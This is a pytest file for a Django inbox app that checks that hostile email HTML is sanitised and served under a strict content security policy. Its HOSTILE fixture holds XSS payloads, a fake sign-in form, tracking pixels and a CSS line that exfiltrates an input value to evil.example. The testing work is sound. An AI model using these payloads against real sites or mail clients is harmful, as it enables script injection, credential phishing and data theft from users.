"""HTML of mails: shown at its own address, where it can do nothing and ask for nothing."""

import base64
import time
import uuid
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from django.test import override_settings

from conftest import Cast, Database, Enquiry
from consult.core import markup
from consult.inbox import queries
from consult.inbox.tests.test_receive_mail import arrive, mail

# One dot.
DOT = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE = """
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/meta">
<link rel="stylesheet" href="https://evil.example/link.css"><style>@import url(https://evil.example/import.css);
input[value^=a]{background:url(https://evil.example/exfiltrate)}</style>
<script>document.title = "script"</script><script src="https://evil.example/script.js"></script>
<svg onload="document.title='svg'"><image href="https://evil.example/svg.png"/><script>document.title="s"</script></svg>
<math><mtext><img src=x onerror="document.title='math'"></mtext></math>
<form action="https://evil.example/form"><input name="password" value="abc"><button>Sign in again</button></form>
<a href="javascript:document.title='link'">js</a> <a href=" &#106;avascript:document.title='link'">js</a>
<a href="data:text/html,<script>1</script>">data</a> <a href="/a/inbox/">relative</a>
<a href="https://honest.example/?a=1&amp;b=2">honest</a>
<img src="https://evil.example/pixel.gif" srcset="https://evil.example/srcset.gif 2x" onerror="document.title='img'">
<img src="data:image/svg+xml;base64,PHN2Zy8+"><picture><source srcset="https://evil.example/picture.gif"></picture>
<video poster="https://evil.example/poster.gif" src="https://evil.example/video.mp4" autoplay></video>
<audio src="https://evil.example/audio.mp3"></audio><object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed"><iframe src="https://evil.example/iframe" srcdoc="<script>1</script>"></iframe>
<table background="https://evil.example/table.gif"><tr><td background="https://evil.example/td.gif">cell</td></tr></table>
<p style="background-image:url(https://evil.example/style.gif);color:rgb(1,2,3)">coloured</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">over everything</p>
<p style="color:red;\\62 ackground:\\75 rl(https://evil.example/escape.gif)">escaped</p>
<noscript><p title="</noscript><img src=https://evil.example/broken-out.gif onerror=alert(1)>"></noscript>
<template><img src="https://evil.example/template.gif"></template><!--><img src=x onerror=alert(1)>-->
<p id="live" class="drop" onclick="document.title='click'" data-live="x" hx-get="/a/inbox/">handled</p>
"""


@pytest.fixture(autouse=True)
def inbound(tmp_path: Path) -> Iterator[Path]:
    with override_settings(CONSULT_FILES_URL=tmp_path.as_uri(), CONSULT_MAIL_INBOUND="inbox@in.example"):
        yield tmp_path


def formatted(to: str, html: str, text: str = "The text") -> EmailMessage:
    made = mail(to, text)
    made.add_alternative(html, subtype="html")
    return made


def address(database: Database) -> str:
    [(id,)] = database.ask("SELECT id FROM inbox_message WHERE direction = 'in' ORDER BY created_at DESC LIMIT 1")
    return f"/a/inbox/messages/{id}/html/"


@pytest.mark.parametrize("asked", ["", "?pictures=yes"])
def test_hostile_html_is_harmless(database: Database, cast: Cast, enquiry: Enquiry, asked: str) -> None:
    arrive(database, cast, formatted(queries.answer_address(cast.a, number=1), HOSTILE))
    answer = cast.vera.client.get(address(database) + asked)
    shown = answer.content.decode().partition("<body>")[2]
    for word in (
        "script",
        'style="color:red',
        "<svg",
        "<math",
        "<form",
        "<input",
        "<iframe",
        "<base",
        "<meta",
        "<link",
    ):
        assert word not in shown.lower(), word
    for word in (
        "javascript",
        "onerror",
        "onclick",
        "onload",
        "srcset",
        "url(",
        "position",
        "hx-get",
        "id=",
        'class="drop',
    ):
        assert word not in shown.lower(), word
    # Pictures are the one thing that may be asked for, when somebody says so.
    assert shown.count("evil.example") == (2 if asked else 0), "the pixel, and the one that broke out of noscript"
    assert "color:rgb(1,2,3)" in shown.replace(" ", "")
    assert '<a href="https://honest.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">' in shown
    assert ("from elsewhere" in shown) is not bool(asked)
    policy = answer["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:")
    assert ("https:" in policy) is bool(asked)
    assert policy.endswith("frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox")
    assert answer["Referrer-Policy"] == "no-referrer"
    assert answer["X-Frame-Options"] == "SAMEORIGIN"


def test_text_comes_first_and_the_frame_is_empty_of_rights(database: Database, cast: Cast, enquiry: Enquiry) -> None:
    arrive(database, cast, formatted(queries.answer_address(cast.a, number=1), "<p>The <b>formatted</b> one</p>"))
    page = cast.vera.client.get("/a/inbox/1/").content.decode()
    assert "The text" in page
    assert "formatted</b>" not in page
    assert f'src="{address(database)}"' in page
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
    assert "<b>formatted</b>" in cast.vera.client.get(address(database)).content.decode()
    assert cast.charlie.client.get(address(database)).status_code == 404
    assert cast.charlie.client.get(address(database).replace("/a/", "/b/")).status_code == 404


def test_pictures_that_came_with_it_are_in_it(database: Database, cast: Cast, enquiry: Enquiry) -> None:
    made = formatted(queries.answer_address(cast.a, number=1), '<img src="cid:logo@x"><img src="cid:gone"><p>Hello</p>')
    made.get_payload()[1].add_related(DOT, "image", "png", cid="<logo@x>")  # type: ignore[index,union-attr]
    arrive(database, cast, made)
    shown = cast.vera.client.get(address(database)).content.decode()
    assert 'src="data:image/png;base64,' in shown
    assert "cid:" not in shown


@pytest.mark.parametrize(
    "html",
    [
        "<p>" + "Long words. " * 2_600_000,
        "<div>" * 200_000,
        "<ul><li>" * 120_000,
        "<p " + " ".join(f"a{number}=1" for number in range(90_000)) + ">",
        "<b><p>" * 150_000,
    ],
    ids=["30 MB", "nested", "lists", "attributes", "misnested"],
)
def test_a_huge_mail_answers_clearly_and_soon(database: Database, cast: Cast, enquiry: Enquiry, html: str) -> None:
    to = queries.answer_address(cast.a, number=1)
    head = f"From: ann@visitor.example\r\nTo: {to}\r\nMessage-ID: <1@v.example>\r\nContent-Type: text/html\r\n\r\n"
    answer = arrive(database, cast, head.encode() + html.encode())
    assert answer.status_code == 202
    began = time.monotonic()
    page = cast.vera.client.get("/a/inbox/1/")
    shown = cast.vera.client.get(address(database))
    assert time.monotonic() - began < markup.LONGEST_SECONDS + 6
    assert page.status_code == shown.status_code == 200
    assert len(page.content) < 1_000_000
    if "Long words" not in html:
        assert b"too tangled" in shown.content or b"<body>" in shown.content
    else:
        assert b"the mail itself is longer" in page.content


def test_a_mail_that_is_set_aside_can_be_read(database: Database, cast: Cast, enquiry: Enquiry) -> None:
    arrive(database, cast, formatted("team@a.example", HOSTILE))
    arrive(database, cast, mail("team@a.example", "Only <text>"))
    arrive(database, cast, mail("team@a.example", "x" * 6_000_000))
    ids = [id for (id,) in database.ask("SELECT id FROM inbox_mail ORDER BY created_at")]
    texts = [cast.vera.client.get(f"/a/inbox/mails/{id}/html/").content.decode() for id in ids]
    assert "evil.example" not in texts[0]
    assert "coloured" in texts[0]
    assert "Only &lt;text&gt;" in texts[1]
    assert "larger than 5 MB" in texts[2]
    assert "Read it" in cast.vera.client.get("/a/inbox/mails/").content.decode()
    assert cast.charlie.client.get(f"/b/inbox/mails/{ids[0]}/html/").status_code == 404
    assert cast.vera.client.get(f"/a/inbox/mails/{uuid.uuid4()}/html/").status_code == 404
